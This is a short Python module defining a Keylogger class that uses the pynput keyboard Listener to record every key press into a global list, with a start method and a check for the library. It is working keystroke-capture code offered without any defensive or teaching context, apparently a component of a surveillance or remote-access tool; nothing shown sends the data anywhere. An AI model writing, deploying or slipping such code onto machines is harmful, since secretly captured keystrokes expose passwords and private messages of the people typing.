import logging
KEYS = []
def onkeyboardevent(key):
    KEYS.append(str(key))
class Keylogger:
    def __init__(self):
        try:
            from pynput.keyboard import Listener
        except ImportError:
            self.runnable = False
        else:
            self.runnable = True
            self.listener = Listener(on_press=onkeyboardevent)
    def start(self):
        if not self.runnable:
            logging.error("pynput not found")
            return False
        self.listener.start()
        return True
